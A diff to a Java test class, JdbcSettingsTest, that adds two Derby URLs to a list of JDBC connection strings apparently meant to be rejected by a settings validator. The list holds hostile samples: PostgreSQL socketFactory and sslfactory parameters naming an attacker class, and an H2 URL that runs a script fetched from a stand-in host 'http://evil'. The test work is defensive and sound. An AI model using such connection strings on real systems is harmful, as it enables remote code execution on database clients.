@@ -63,6 +63,8 @@ class JdbcSettingsTest {
         "jdbc:mysql://root:hunter2@db/hr",
         "jdbc:sqlserver://db;databaseName=hr;password=hunter2",
         "jdbc:oracle:thin:scott/hunter2@//db:1521/hr",
+        "jdbc:derby:/var/lib/tessera/db",
+        "jdbc:derby:directory:db;create=true",
         "jdbc:postgresql://db/hr?socketFactory=evil.Factory",
         "jdbc:postgresql://db/hr?sslfactory=evil.Factory&sslfactoryarg=x",
         "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
